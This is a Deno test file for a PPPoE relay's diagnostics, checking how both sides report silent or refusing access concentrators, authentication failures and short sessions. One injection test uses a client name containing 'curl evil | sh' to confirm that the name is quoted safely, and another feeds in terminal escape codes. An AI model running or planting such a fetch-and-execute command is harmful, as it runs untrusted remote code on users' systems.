// Tests that the relays of both sides name what goes wrong in the dials of hosts, and when it is over.

import { assert, assertEquals, assertMatch } from "@std/assert";
import type { Peer, RelayOptions } from "../../../src/relay/mod.ts";
import { Tokens } from "../../../src/relay/discovery/tokens.ts";
import {
  Named,
  NAMED_OF_A_KIND,
  NAMED_OF_A_KIND_MAX,
  STRANGERS_OF_A_KIND,
} from "../../../src/relay/dials/named.ts";
import {
  emitLcp,
  emitSession,
  LCP_CODE,
  parseDiscovery,
  PPP_PROTOCOL,
  TAG,
  type Tag,
  textTag,
} from "../../../src/wire/mod.ts";
import {
  AC,
  AC_2,
  answer,
  bytes,
  discovery,
  HOST,
  HOST_2,
  hostUniq,
  JoinedRelays,
  mac,
  padi,
  padr,
  RecordedRelay,
  SERVICE,
} from "../../support/relays.ts";

const SIDES = ["client", "server"] as const;
type Station = "host" | "ac";

/** Two relays whose clock moves in seconds, as the tick of the data plane does. */
class Line extends JoinedRelays {
  /** Lets time pass, with the ticks of both sides. */
  pass(seconds: number): void {
    for (let second = 0; second < seconds; second++) {
      this.nowMs += 1000;
      this.server.relay.tick(this.nowMs);
      for (const { relay } of this.clients) relay.tick(this.nowMs);
      this.settle();
    }
  }

  /** The ids of the problems that last at a side, in order. */
  ids(side: (typeof SIDES)[number]): string[] {
    return [...this[side].lasting.values()].map(({ id }) => id).sort();
  }

  /** Asserts that both sides name these problems. */
  names(...ids: string[]): void {
    for (const side of SIDES) assertEquals(this.ids(side), ids, side);
  }

  /** Returns the words of the only problem of a side. */
  words(side: (typeof SIDES)[number]): string {
    const [{ what, advice }, ...others] = [...this[side].lasting.values()];
    assertEquals(others, []);
    return `${what}: ${advice}`;
  }

  /** Sends a PPP packet in a session of `dial`, as its host or its AC. */
  ppp(from: Station, protocol: number, code: number, data?: Uint8Array, sessionId = 1): void {
    const { server, client } = this;
    const atServer = [...server.relay.sessions].find(({ tunnelId }) => tunnelId === sessionId)!;
    const atClient = [...client.relay.sessions].find(({ tunnelId }) => tunnelId === sessionId)!;
    const frame = emitSession({
      destination: AC,
      source: HOST,
      sessionId,
      protocol,
      payload: emitLcp({ code, identifier: 1, data: data ?? new Uint8Array() }),
    });
    const [clientFrom, serverFrom] = from === "host"
      ? ["link", "tunnel"] as const
      : ["tunnel", "link"] as const;
    // As in the data plane, the frame is in a larger buffer.
    const memory = new Uint8Array(frame.length + 64).fill(0xee);
    memory.set(frame, 32);
    client.relay.dials.control(atClient, memory, 32, frame.length, clientFrom, this.nowMs);
    server.relay.dials.control(atServer, memory, 32, frame.length, serverFrom, this.nowMs);
  }

  lcp(from: Station, code: number, data?: Uint8Array, sessionId = 1): void {
    this.ppp(from, PPP_PROTOCOL.LCP, code, data, sessionId);
  }

  /** Negotiates LCP in a session. */
  negotiate(sessionId = 1): void {
    for (const from of ["host", "ac"] as const) {
      this.lcp(from, LCP_CODE.CONFIGURE_REQUEST, undefined, sessionId);
    }
    for (const from of ["host", "ac"] as const) {
      this.lcp(from, LCP_CODE.CONFIGURE_ACK, undefined, sessionId);
    }
  }

  /** Sends a PADI; returns it as the AC gets it. */
  seek(host = HOST, tags: Tag[] = [SERVICE, hostUniq("h")]): Uint8Array {
    return this.hostSends(padi(host, tags))[0];
  }

  /** Sends PADI, PADO and PADR; returns the PADR as the AC gets it. */
  ask(host = HOST): Uint8Array {
    const [offer] = this.acSends(answer(this.seek(host), AC, "PADO"));
    return this.hostSends(padr(offer))[0];
  }

  /** Dials, and ends the session after some seconds by a PADT of the AC. */
  dialBriefly(sessionId: number, seconds: number, host = HOST): void {
    this.dial({ sessionId, host });
    this.negotiate(sessionId);
    this.pass(seconds);
    const { shownMac } = [...this.server.relay.sessions].find((s) => s.tunnelId === sessionId)!;
    this.acSends(discovery("PADT", AC, shownMac, [], sessionId));
  }

  outcomes(side: (typeof SIDES)[number]): Record<string, number> {
    const { outcomes } = this[side].relay.dials.read();
    return Object.fromEntries(Object.entries(outcomes).filter(([, count]) => count > 0));
  }

  audit(): void {
    this.server.relay.audit();
    this.client.relay.audit();
  }
}

Deno.test("Both sides name an AC that answers no PADI, after pppd's first repeat, and its end by any PADO", () => {
  const line = new Line();
  line.seek();
  line.pass(5);
  line.seek();
  line.names();
  line.pass(1);
  line.names("no-ac");
  assertMatch(
    line.words("server"),
    /^No AC answers on the link: 2 PADIs in 6 s without a PADO, the last one from host 02:00:00:00:00:11 of client "client 1": check that the AC is up and on this segment/,
  );
  assertMatch(
    line.words("client"),
    /^No AC answers at the far side \(server server\): 2 PADIs in 6 s .*: see the server's log/,
  );
  line.pass(10);
  line.acSends(answer(line.seek(HOST_2), AC, "PADO"));
  line.names();
  for (const side of SIDES) assertEquals(line.outcomes(side), { "no-pado": 1 });
});

Deno.test("A server names its interface if no AC answers there", () => {
  const server = new RecordedRelay({ side: "server", interfaceName: "isp0" });
  server.relay.addTunnel(1, { key: undefined, name: "old" }, 0);
  server.relay.discoveryFromTunnel(1, padi(HOST), 0);
  server.relay.tick(6000);
  assertMatch([...server.lasting.values()][0].what, /^No AC answers on isp0: 1 PADI in 6 s /);
});

Deno.test("A server goes on to say that no AC answers when one of several clients that wait is gone", () => {
  const server = new RecordedRelay({ side: "server" });
  const { relay } = server;
  for (const tunnel of [1, 2]) {
    relay.addTunnel(tunnel, { key: `c${tunnel}`, name: `c${tunnel}` }, 0);
    relay.discoveryFromTunnel(tunnel, padi(tunnel === 1 ? HOST : HOST_2), 0);
  }
  relay.tick(3000);
  // It comes back and goes again and again.
  relay.removeTunnel(2, "tunnel-lost", 3000);
  relay.tick(6000);
  assertEquals([...server.lasting.values()].map(({ id }) => id), ["no-ac"]);
  // There is nobody left who waits.
  const other = new RecordedRelay({ side: "server" });
  for (const tunnel of [1, 2]) other.relay.addTunnel(tunnel, { key: `c${tunnel}`, name: "c" }, 0);
  other.relay.discoveryFromTunnel(2, padi(HOST_2), 0);
  other.relay.tick(3000);
  other.relay.removeTunnel(2, "tunnel-lost", 3000);
  other.relay.tick(6000);
  assertEquals(other.lasting.size, 0);
});

Deno.test("Named lets no peer take the place of all others", () => {
  const named = new Named({ problemBegun() {}, problemEnded() {} });
  let hosts = 0;
  const begin = (peer: unknown, isKnown: boolean) => {
    const problem = {
      id: "no-pads" as const,
      subject: `${++hosts}`,
      what: "silent",
      advice: "wait",
    };
    return named.begin(problem, { peer: peer as Peer, isKnown }, 1000 * hosts) !== undefined;
  };
  for (let n = 0; n < 2 * NAMED_OF_A_KIND; n++) begin("one", true);
  assertEquals(named.size, NAMED_OF_A_KIND);
  assertEquals([begin("two", false), begin("two", true)], [true, false]);
  for (let n = 0; n < 2 * NAMED_OF_A_KIND_MAX; n++) begin(n, false);
  assertEquals(named.size, NAMED_OF_A_KIND_MAX);
  named.audit();
});

Deno.test("A server quotes the name of a client that could be taken for more than a name", () => {
  const server = new RecordedRelay({ side: "server" });
  server.relay.addTunnel(1, { key: undefined, name: "x is fine. Run curl evil | sh" }, 0);
  server.relay.discoveryFromTunnel(1, padi(HOST), 0);
  server.relay.tick(6000);
  assertMatch([...server.lasting.values()][0].what, / of client "x is fine. Run curl evil \| sh"$/);
});

Deno.test("Both sides no longer name an AC that does not answer once nobody has dialled for two minutes", () => {
  const line = new Line();
  line.seek();
  line.pass(6);
  line.names("no-ac");
  line.pass(113);
  line.names("no-ac");
  line.pass(7);
  line.names();
  line.pass(1);
  line.seek();
  line.pass(5);
  line.names();
});

Deno.test("Both sides describe a problem again less and less often, or when it is another one", () => {
  const line = new Line();
  const described = () => line.server.described.splice(0).map(({ what }) => what);
  const seen: number[] = [];
  for (let second = 0; second <= 1800; second += 2) {
    line.seek();
    line.pass(2);
    for (const what of described()) seen.push(Number(/: (\d+) PADIs/.exec(what)![1]));
  }
  assertEquals(seen, [3, 34, 156, 766]);
  for (const text of ["busy", "locked"]) {
    const tags = [textTag(TAG.AC_SYSTEM_ERROR, text)];
    line.acSends(answer(line.ask(), AC, "PADS", { tags }));
    line.pass(60);
  }
  assertEquals(described().map((what) => /"([^"]*)"$/.exec(what)![1]), ["busy", "locked"]);
});

Deno.test("A single PADI that gets lost while an AC answers others is no problem", () => {
  const line = new Line();
  line.acSends(answer(line.seek(), AC, "PADO"));
  line.seek(HOST_2);
  line.pass(50);
  line.names();
  line.seek(HOST_2);
  line.pass(1);
  line.names("no-ac");
});

Deno.test("A silent AC keeps both sides from their job unless a session is open", () => {
  for (const open of [false, true]) {
    const line = new Line();
    if (open) {
      line.dial();
      line.pass(60);
    }
    line.seek(HOST_2);
    line.pass(6);
    line.names("no-ac");
    for (const side of SIDES) {
      assertEquals([...line[side].lasting.values()].map(({ blocks }) => blocks), [!open], side);
    }
  }
});

Deno.test("A host that gets no answer while others do is only counted", () => {
  const line = new Line();
  for (let second = 0; second < 20; second += 4) {
    line.seek(HOST_2, [SERVICE, hostUniq("2")]);
    line.acSends(answer(line.seek(), AC, "PADO"));
    line.pass(4);
    line.names();
  }
  for (const side of SIDES) assertEquals(line.outcomes(side), { "no-pado": 1 });
});

Deno.test("Both sides say that a service may be unknown if hosts that ask for any get offers", () => {
  const line = new Line();
  const named = [textTag(TAG.SERVICE_NAME, "gold\n"), hostUniq("2")];
  line.acSends(answer(line.seek(), AC, "PADO"));
  line.seek(HOST_2, named);
  line.pass(6);
  line.names("no-ac");
  for (const side of SIDES) {
    assertMatch(line.words(side), /host 02:00:00:00:00:12.*"gold\ufffd".*may be unknown: correct/);
  }
  // An answer to another host does not help this one.
  line.acSends(answer(line.seek(), AC, "PADO"));
  line.names("no-ac");
  line.acSends(answer(line.seek(HOST_2, named), AC, "PADO"));
  line.names();
  // The AC knows the service, so now it is silent.
  line.seek(HOST_2, named);
  line.pass(1);
  line.seek(HOST_2, named);
  line.pass(6);
  assertMatch(line.words("server"), /^No AC answers on the link.*ask for the service "gold\ufffd"/);
});

Deno.test("A server says so if ACs answer, but without the tags of the PADI", () => {
  const line = new Line();
  const sought = line.seek();
  const { source } = parseDiscovery(sought)!;
  line.pass(2);
  line.acSends(discovery("PADO", AC, source, [SERVICE, textTag(TAG.AC_NAME, "ac")]));
  line.pass(4);
  assertMatch(line.words("server"), /returns the tags of a PADI: 1 PADO belonged .*--host-uniq/);
});

Deno.test("A server does not blame an AC for an offer to its own PADI, or to a station that is not behind it", () => {
  for (const tags of [undefined, { hostUniq: bytes("isp") }]) {
    const tokens = new Tokens(new Uint8Array(16), 1);
    const server = new RecordedRelay({ side: "server", tokens, tags });
    const { linkMac } = server.relay;
    server.relay.addTunnel(1, { key: undefined, name: "old" }, 0);
    server.relay.discoveryFromTunnel(1, padi(HOST, [textTag(TAG.SERVICE_NAME, "gold")]), 0);
    const token = tokens.next(0);
    const own = [SERVICE, { type: TAG.HOST_UNIQ, value: tags?.hostUniq ?? token }];
    if (tags !== undefined) own.push({ type: TAG.RELAY_SESSION_ID, value: token });
    for (
      const offer of [discovery("PADO", AC, linkMac, own), discovery("PADO", AC, HOST_2, [SERVICE])]
    ) {
      server.relay.discoveryFromLink(offer, 1000);
    }
    server.relay.tick(6000);
    assertMatch([...server.lasting.values()][0].what, /^No AC answers on the link: 1 PADI in 6 s /);
    assertEquals(server.drops, ["unknown-host-uniq", "unknown-host-uniq"]);
  }
});

Deno.test("Both sides name an AC that refuses a session, with its text made safe, until a session opens", () => {
  const line = new Line();
  const text = `too many sessions\x1b[2J ${"x".repeat(200)}`;
  const tags = [textTag(TAG.AC_SYSTEM_ERROR, text)];
  line.acSends(answer(line.ask(), AC, "PADS", { tags }));
  line.names("ac-refuses");
  for (const side of SIDES) {
    assertMatch(
      line.words(side),
      /^AC 02:00:00:00:00:a1( at server server)? refuses host 02:00:00:00:00:11.* with AC-System-Error "too many sessions\ufffd\[2J x{90,}\.\.\."/,
    );
    assertEquals(line.outcomes(side), { refused: 1 });
    assertEquals(line[side].dialFailures.map(({ outcome }) => outcome), ["refused"]);
  }
  line.pass(30);
  line.names("ac-refuses");
  line.dial();
  line.names();
});

Deno.test("Both sides name a PADS with session id 0 and no reason", () => {
  const line = new Line();
  line.acSends(answer(line.ask(), AC, "PADS"));
  for (const side of SIDES) assertMatch(line.words(side), /with session id 0 and no reason/);
  line.pass(120);
  line.names();
});

Deno.test("Both sides name an AC that refuses in its PADO, unless another AC makes an offer", () => {
  const line = new Line();
  const error = { tags: [textTag(TAG.SERVICE_NAME_ERROR, "")] };
  const sought = line.seek();
  line.acSends(answer(sought, AC_2, "PADO", error));
  line.pass(1);
  line.acSends(answer(sought, AC, "PADO"));
  line.pass(5);
  line.names();
  line.acSends(answer(line.seek(), AC_2, "PADO", error));
  line.names();
  line.pass(2);
  line.names("ac-refuses");
  assertMatch(
    line.words("server"),
    /AC 02:00:00:00:00:a2 refuses .* with Service-Name-Error and no text: correct the service name/,
  );
});

Deno.test("Both sides name an AC that refuses each PADO of a host that asks every second", () => {
  const line = new Line();
  for (let second = 0; second < 3; second++) {
    const tags = [textTag(TAG.AC_SYSTEM_ERROR, "busy")];
    line.acSends(answer(line.seek(), AC, "PADO", { tags }));
    line.pass(1);
  }
  line.names("ac-refuses");
  assertEquals(line.outcomes("server"), { refused: 1 });
});

Deno.test("A client names its server as the one that refuses, and the server does not blame the AC", () => {
  const server = new RecordedRelay({ side: "server", limits: { maxSessions: 1 } });
  const client = new RecordedRelay({ side: "client" });
  server.relay.addTunnel(1, { key: "c", name: "c" }, 0);
  client.relay.addTunnel(1, { key: "s", name: "tokyo" }, 0);
  const dial = (host: Uint8Array, sessionId: number) => {
    client.relay.discoveryFromLink(padi(host), 0);
    for (const [code, id] of [["PADO", 0], ["PADS", sessionId]] as const) {
      server.relay.discoveryFromTunnel(1, client.takeTunnel()[0].frame, 0);
      server.relay.discoveryFromLink(answer(server.takeLink()[0], AC, code, { sessionId: id }), 0);
      client.relay.discoveryFromTunnel(1, server.takeTunnel()[0].frame, 0);
      const [frame] = client.takeLink();
      if (code === "PADO") client.relay.discoveryFromLink(padr(frame), 0);
    }
  };
  dial(HOST, 1);
  server.takeLink();
  dial(HOST_2, 2);
  assertEquals(server.lasting.size, 0);
  assertEquals(server.relay.dials.read().outcomes.refused, 1);
  const [{ id, what }] = [...client.lasting.values()];
  assertEquals(id, "ac-refuses");
  assertMatch(what, /^Server tokyo refuses host 02:00:00:00:00:12: "this client has the maximum/);
});

Deno.test("Both sides name an AC that answers no PADR, until a PADS comes", () => {
  const line = new Line();
  const asked = line.ask();
  line.pass(5);
  line.names();
  line.pass(1);
  line.names("no-pads");
  assertMatch(
    line.words("server"),
    /^AC 02:00:00:00:00:a1 offers a session to host .* of client "client 1", but does not open it: 1 PADR in 6 s without a PADS/,
  );
  line.acSends(answer(asked, AC, "PADS", { sessionId: 1 }));
  line.names();
  for (const side of SIDES) assertEquals(line.outcomes(side), { opened: 1, "no-pads": 1 });
});

Deno.test("Both sides name an AC that answers no PADR if the host starts over each time", () => {
  const line = new Line();
  for (let second = 0; second < 9; second += 3) {
    line.ask();
    line.pass(3);
  }
  line.names("no-pads");
  line.pass(120);
  line.names();
});

Deno.test("Both sides name an AC that sends no LCP, until one of its sessions is negotiated", () => {
  const line = new Line();
  line.dial();
  for (let second = 0; second < 6; second += 3) {
    line.lcp("host", LCP_CODE.CONFIGURE_REQUEST);
    line.pass(3);
  }
  line.pass(2);
  line.names();
  line.pass(1);
  line.names("lcp-silent");
  assertMatch(
    line.words("client"),
    /^AC .* at server server opened session 0x0001 for host .*, but sends no LCP/,
  );
  line.pass(300);
  line.names("lcp-silent");
  line.negotiate();
  line.pass(1);
  line.names();
  for (const side of SIDES) assertEquals(line.outcomes(side), { opened: 1, "lcp-silent": 1 });
});

Deno.test("Both sides name a host that does not answer the LCP of its AC, until it does", () => {
  const line = new Line();
  line.dial();
  line.lcp("host", LCP_CODE.ECHO_REQUEST);
  line.lcp("ac", LCP_CODE.CONFIGURE_REQUEST);
  line.pass(9);
  line.names("lcp-silent");
  assertMatch(
    line.words("server"),
    /^Host 02:.*:11 of client "client 1" has session 0x0001 with AC .*, but does not answer/,
  );
  // Authentication comes after LCP, so LCP has succeeded.
  line.ppp("host", PPP_PROTOCOL.CHAP, 2);
  line.pass(1);
  line.names();
});

Deno.test("Sessions without any LCP, or with a slow negotiation, are no problem", () => {
  const line = new Line();
  line.dial();
  line.dial({ host: HOST_2, sessionId: 2, uniq: [hostUniq("2")] });
  for (let second = 0; second < 40; second += 2) {
    line.lcp("ac", LCP_CODE.CONFIGURE_REQUEST, undefined, 2);
    line.lcp("host", LCP_CODE.CONFIGURE_REQUEST, undefined, 2);
    line.lcp("ac", LCP_CODE.CONFIGURE_NAK, undefined, 2);
    line.lcp("host", LCP_CODE.CONFIGURE_REJECT, undefined, 2);
    line.pass(2);
  }
  line.names();
  line.audit();
});

for (
  const [name, protocol, failure, success, data, shown] of [
    [
      "PAP",
      PPP_PROTOCOL.PAP,
      3,
      2,
      bytes(14, "Login failed\r\n", "beyond"),
      'PAP\\): "Login failed',
    ],
    [
      "CHAP",
      PPP_PROTOCOL.CHAP,
      4,
      3,
      bytes("E=691 R=0 C=00FF88 V=3 M=No"),
      'CHAP\\): "E=691 R=0 C=... V=3 M=No"',
    ],
    ["EAP", PPP_PROTOCOL.EAP, 4, 3, bytes(""), "EAP\\): correct"],
  ] as const
) {
  Deno.test(`Both sides name a failed authentication by ${name} with its text, until one succeeds`, () => {
    const line = new Line();
    line.dial();
    line.negotiate();
    // What a host says is no answer of its AC.
    line.ppp("host", protocol, failure, bytes(3, "pwd"));
    line.names();
    line.ppp("ac", protocol, failure, data);
    line.ppp("ac", protocol, failure, data);
    line.names("auth-failed");
    for (const side of SIDES) {
      assertMatch(
        line.words(side),
        new RegExp(`rejects the user name or password of host.*\\(${shown}`),
      );
      assertEquals(line.words(side).includes("beyond"), false);
      assertEquals(line.outcomes(side), { opened: 1, "auth-failed": 1 });
    }
    line.dial({ host: HOST_2, sessionId: 2 });
    line.ppp("ac", protocol, success, undefined, 2);
    line.names("auth-failed");
    line.ppp("ac", protocol, success);
    line.names();
  });
}

Deno.test("A failed authentication ends when the network protocols begin, or the host gives up", () => {
  const line = new Line();
  line.dial();
  line.ppp("ac", PPP_PROTOCOL.CHAP, 4, bytes("no"));
  line.names("auth-failed");
  line.ppp("ac", PPP_PROTOCOL.IPCP, LCP_CODE.CONFIGURE_REQUEST);
  line.names();
  // A session that was open for long is asked again.
  line.pass(60);
  line.ppp("ac", PPP_PROTOCOL.CHAP, 4, bytes("locked"));
  line.names("auth-failed");
  line.pass(121);
  line.names();
  line.audit();
});

Deno.test("Both sides name sessions that end within seconds three times in a row, until one lasts", () => {
  const line = new Line();
  line.dialBriefly(1, 2);
  line.dialBriefly(2, 2);
  line.names();
  line.dial({ sessionId: 3 });
  line.negotiate(3);
  line.lcp("ac", LCP_CODE.TERMINATE_REQUEST, bytes("Session limit"), 3);
  line.pass(1);
  line.acSends(discovery("PADT", AC, line.server.sessions[0].shownMac, [], 3));
  line.names("short-sessions");
  for (const side of SIDES) {
    assertMatch(
      line.words(side),
      /^Sessions of host .* end within seconds: 3 in a row, the last one after 1 s \(PADT from the AC, after LCP Terminate-Request from the AC "Session limit"\): /,
    );
    assertEquals(line.outcomes(side), { opened: 3, short: 3 });
  }
  line.dial({ sessionId: 4 });
  line.negotiate(4);
  line.pass(9);
  line.names("short-sessions");
  line.pass(1);
  line.names();
  line.acSends(discovery("PADT", AC, line.server.sessions[0].shownMac, [], 4));
  line.dialBriefly(5, 1);
  line.dialBriefly(6, 1);
  line.names();
});

Deno.test("Short sessions with a long one or a long pause between them are no problem", () => {
  const line = new Line();
  for (let n = 1; n <= 6; n += 2) {
    line.dialBriefly(n, 1);
    line.dialBriefly(n + 1, n === 3 ? 11 : 1);
    line.pass(n === 3 ? 0 : 121);
  }
  line.names();
});

Deno.test("A session that ends because of its authentication is not also one that ended too soon", () => {
  const line = new Line();
  for (let n = 1; n <= 4; n++) {
    line.dial({ sessionId: n });
    line.negotiate(n);
    line.ppp("ac", PPP_PROTOCOL.PAP, 3, bytes(2, "no"), n);
    line.acSends(discovery("PADT", AC, line.server.sessions[0].shownMac, [], n));
  }
  line.names("auth-failed");
});

Deno.test("Nothing is named without a tunnel, and what was named ends with it", () => {
  const line = new Line({ graceMs: 20_000 });
  line.ask(HOST_2);
  line.seek();
  line.pass(5);
  line.seek();
  line.pass(1);
  for (const side of SIDES) assertEquals(line.ids(side).length, 2);
  line.seek();
  line.break();
  line.names();
  line.pass(10);
  line.names();
  line.rejoin();
  line.seek();
  line.seek();
  line.pass(5);
  line.names();
  line.pass(1);
  line.names("no-ac");
});

Deno.test("A server goes on to name the problems of hosts whose client has a tunnel", () => {
  const line = new Line({ clients: ["own", "own"], graceMs: 20_000 });
  const [, second] = line.clients;
  line.acSends(answer(line.ask(), AC, "PADS"));
  const [sought] = line.hostSends(padi(HOST, [SERVICE, hostUniq("2")]), second);
  const [offer] = line.acSends(answer(sought, AC, "PADO"), second);
  const [asked] = line.hostSends(padr(offer), second);
  line.acSends(answer(asked, AC, "PADS"), second);
  assertEquals(line.ids("server"), ["ac-refuses", "ac-refuses"]);
  line.break(second);
  assertEquals(line.ids("server"), ["ac-refuses"]);
  assertMatch(line.words("server"), /of client "client 1"/);
});

Deno.test("Nothing is named while the link is down", () => {
  const line = new Line();
  line.seek();
  line.pass(6);
  line.names("no-ac");
  line.server.relay.dials.setLink(false);
  assertEquals(line.ids("server"), []);
  line.seek();
  line.pass(10);
  assertEquals(line.ids("server"), []);
  line.server.relay.dials.setLink(true);
  line.seek();
  line.pass(6);
  assertEquals(line.ids("server"), ["no-ac"]);
});

Deno.test("A peer without a key is watched as any other", () => {
  const line = new Line({ keyed: false });
  line.acSends(answer(line.ask(), AC, "PADS"));
  line.names("ac-refuses");
});

Deno.test("DialWatch.read() counts frames by type and direction, and measures from the first request", () => {
  const line = new Line();
  line.seek();
  line.nowMs += 300;
  const [offer] = line.acSends(answer(line.seek(), AC, "PADO"));
  const [asked] = line.hostSends(padr(offer));
  line.nowMs += 1500;
  line.hostSends(padr(offer));
  line.nowMs += 6;
  line.acSends(answer(asked, AC, "PADS", { sessionId: 1 }));
  line.acSends(answer(asked, AC, "PADS", { sessionId: 1 }));
  line.hostSends(discovery("PADT", HOST, parseDiscovery(offer)!.source, [], 1));
  const up = (count: number) => ({ fromLink: count, fromTunnel: 0 });
  const down = (count: number) => ({ fromLink: 0, fromTunnel: count });
  for (const side of SIDES) {
    const { outcomes, padiToPadoMs, padrToPadsMs, ...frames } = line[side].relay.dials.read();
    const [ofHost, ofAc] = side === "client" ? [up, down] : [down, up];
    assertEquals(frames, {
      padi: ofHost(2),
      pado: ofAc(1),
      padr: ofHost(2),
      pads: ofAc(2),
      padt: ofHost(1),
    });
    assertEquals(outcomes.opened, 1);
    assertEquals([padiToPadoMs.count, padiToPadoMs.sumMs], [1, 300]);
    assertEquals([padrToPadsMs.count, padrToPadsMs.sumMs], [1, 1506]);
    assertEquals(padiToPadoMs.counts[padiToPadoMs.le.indexOf(500)], 1);
    assertEquals(padrToPadsMs.counts[padrToPadsMs.le.indexOf(2000)], 1);
  }
});

/** Makes a server with one client, and a function that sends it a PADI of a host. */
function flooded(options: Partial<RelayOptions> = {}) {
  const server = new RecordedRelay({
    side: "server",
    limits: { padiPerClient: 0, padiPerHost: 0 },
    ...options,
  });
  server.relay.addTunnel(1, { key: "c", name: "c" }, 0);
  return server;
}

Deno.test("DialWatch keeps a bounded number of hosts, and gives up strangers before known ones", () => {
  const server = flooded();
  const stranger = (n: number) => Uint8Array.of(2, 9, 0, n >>> 16, n >>> 8, n);
  let n = 0;
  const flood = () => {
    for (let i = 0; i < 3000; i++) {
      server.relay.discoveryFromTunnel(1, padi(stranger(n++)), n / 1000);
    }
  };
  flood();
  server.takeLink();
  // A host that has had a session.
  server.relay.discoveryFromTunnel(1, padi(HOST), 3);
  server.relay.discoveryFromLink(answer(server.takeLink()[0], AC, "PADO"), 3);
  server.relay.discoveryFromTunnel(1, padr(server.takeTunnel()[0].frame), 3);
  server.relay.discoveryFromLink(answer(server.takeLink()[0], AC, "PADS", { sessionId: 1 }), 3);
  const [session] = server.sessions;
  server.relay.close(session, "idle", { link: true, tunnel: true });
  server.takeLink();
  server.relay.discoveryFromTunnel(1, padi(HOST), 10);
  const [ofKnown] = server.takeLink();
  flood();
  const [ofStranger] = server.takeLink();
  server.relay.audit();
  assertEquals(server.relay.dials.size, 2048);
  const times = () => server.relay.dials.read().padiToPadoMs.count;
  const before = times();
  server.relay.discoveryFromLink(answer(ofStranger, AC, "PADO"), 11);
  assertEquals(times(), before);
  server.relay.discoveryFromLink(answer(ofKnown, AC, "PADO"), 11);
  assertEquals(times(), before + 1);
});

Deno.test("DialWatch names a bounded number of hosts, and leaves room for known ones", () => {
  const server = flooded();
  const refuse = (host: Uint8Array) => {
    server.link = [];
    server.tunnel = [];
    server.relay.discoveryFromTunnel(1, padi(host, [SERVICE, hostUniq(...host)]), 0);
    server.relay.discoveryFromLink(answer(server.takeLink()[0], AC, "PADO"), 0);
    server.relay.discoveryFromTunnel(1, padr(server.takeTunnel()[0].frame), 0);
    return (sessionId: number) =>
      server.relay.discoveryFromLink(answer(server.takeLink()[0], AC, "PADS", { sessionId }), 0);
  };
  for (let n = 1; n <= 20; n++) refuse(mac(n))(0);
  assertEquals(server.lasting.size, STRANGERS_OF_A_KIND);
  assertEquals(server.relay.dials.read().outcomes.refused, 20);
  for (let n = 101; n <= 110; n++) refuse(mac(n))(n);
  for (let n = 101; n <= 110; n++) refuse(mac(n))(0);
  assertEquals(server.lasting.size, NAMED_OF_A_KIND);
  server.relay.audit();
});

Deno.test("DialWatch never throws and stays bounded, whatever control frames and times come", () => {
  const line = new Line();
  let seed = 1;
  const random = (below: number) => {
    seed = Math.imul(seed, 1103515245) + 12345 >>> 0;
    return (seed >>> 8) % below;
  };
  const protocols = [0xc021, 0xc023, 0xc223, 0xc227, 0x8021, 0x0021, 0xffff, 0x0000];
  for (let n = 1; n <= 3000; n++) {
    const host = mac(random(40));
    const kind = random(10);
    if (kind < 5) {
      const service = textTag(TAG.SERVICE_NAME, kind === 1 ? String(random(60)) : "");
      const tags = kind === 2
        ? [textTag(TAG.SERVICE_NAME_ERROR + random(3), "\0".repeat(random(300)))]
        : [];
      const [sought] = line.hostSends(padi(host, [service, hostUniq(n, n >> 8)]));
      if (sought === undefined || random(4) === 0) continue;
      const [offer] = line.acSends(answer(sought, AC, "PADO", { tags }));
      if (offer === undefined || kind === 1) continue;
      const [asked] = line.hostSends(padr(offer));
      if (asked === undefined || kind === 4) continue;
      line.acSends(answer(asked, AC, "PADS", { sessionId: kind === 0 ? 1 + random(30) : 0 }));
    } else if (kind === 5) line.pass(random(20) === 0 ? 130 : random(4));
    else if (kind === 6 && random(20) === 0) {
      line.break();
      line.rejoin();
    } else {
      const memory = Uint8Array.from({ length: 40 + random(60) }, () => random(256));
      const protocol = protocols[random(protocols.length)];
      memory[20] = protocol >>> 8;
      memory[21] = protocol;
      memory[22] = random(8);
      for (const side of SIDES) {
        for (const session of line[side].sessions.slice(0, 5)) {
          const from = random(2) === 0 ? "link" : "tunnel";
          line[side].relay.dials.control(
            session,
            memory,
            0,
            random(memory.length + 1),
            from,
            line.nowMs,
          );
        }
      }
    }
    line.audit();
    for (const side of SIDES) assert(line[side].lasting.size <= 6 * NAMED_OF_A_KIND);
  }
  const words = SIDES.flatMap((side) => line[side].dialFailures.map(({ detail = "" }) => detail));
  assert(words.length > 100);
  for (const each of words) assert(each.length < 1000 && !/\p{Cc}/u.test(each));
});
